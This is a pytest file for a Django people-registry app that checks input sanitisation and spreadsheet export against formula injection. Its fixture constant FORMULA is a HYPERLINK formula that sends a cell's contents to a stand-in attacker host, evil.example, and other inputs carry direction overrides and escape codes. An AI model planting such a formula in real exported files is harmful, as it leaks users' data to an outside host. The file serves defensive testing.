"""Text that would break a spreadsheet or fool a reader: control characters are removed on the way
in (the API's parser, form posts), names with direction overrides or zero-width characters are
refused, and the export writes every cell through kejia.core.sheets (no formula, no crash on
text stored before the normalisation)."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from kejia.people.models import Person
from kejia.people.tests.helpers import ID_A, make
from kejia.people.tests.test_api import Api, body
from kejia.people.tests.test_views import person_data

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"详情")'


@pytest.fixture(autouse=True)
def english(settings):
    settings.LANGUAGE_CODE = "en"


def test_api_create_strips_control_characters(tree):
    response = Api(tree.county_staff).post("/api/people", body(tree, name="张\x01伟\x1b", expertise="机器\x00学习\x7f", title="Cafe\u0301"))
    assert response.status_code == 201, response.content
    person = Person.objects.get()
    assert (person.name, person.expertise, person.title) == ("张伟", "机器学习", "Caf\u00e9")


@pytest.mark.parametrize("name", ["张\u202e伟", "张\u200b伟", "\u2067张伟\u2069"])
def test_api_refuses_names_with_invisible_marks(tree, name):
    response = Api(tree.county_staff).post("/api/people", body(tree, name=name))
    assert response.status_code == 400 and response.json()["field"] == "name"
    assert not Person.objects.exists()


def test_api_patch_strips_control_characters_and_refuses_overrides(tree):
    person = make(tree)
    api = Api(tree.county_staff)
    assert api.patch(f"/api/people/{person.pk}", {"expertise": "桥梁\x1b[31m", "region": "320102"}).status_code == 200
    person.refresh_from_db()
    assert person.expertise == "桥梁[31m"
    response = api.patch(f"/api/people/{person.pk}", {"name": "李\u202e明", "region": "320102"})
    assert response.status_code == 400 and response.json()["field"] == "name"


def test_form_post_strips_control_characters_and_refuses_overrides(client, tree):
    client.force_login(tree.county_staff)
    response = client.post(reverse("people:new") + f"?org={tree.xw.pk}", person_data(name="张\u202e伟"))
    assert response.status_code == 400 and "name" in response.context["form"].errors
    response = client.post(reverse("people:new") + f"?org={tree.xw.pk}", person_data(name="张\x01伟", expertise="视觉\x1b"))
    assert response.status_code == 302
    person = Person.objects.get()
    assert person.name == "张伟" and person.expertise == "视觉"


def test_export_writes_formulas_as_text_and_survives_stored_control_characters(client, tree):
    make(tree, name="李明")
    Person.objects.update(name=FORMULA, employer_name="\x01东南\x1b大学", expertise="@SUM(1+1)")  # as stored before normalisation
    client.force_login(tree.county_staff)
    for params in ({}, {"unmasked": "on"}):
        response = client.get(reverse("people:export"), params)
        assert response.status_code == 200
        cells = [c for r in load_workbook(io.BytesIO(response.content)).active.iter_rows() for c in r]
        assert all(c.data_type != "f" for c in cells)
        values = {c.value for c in cells}
        assert {"'" + FORMULA, "东南大学", "'@SUM(1+1)"} <= values
        assert ("*" * 17 + ID_A[-1] in values) != bool(params)
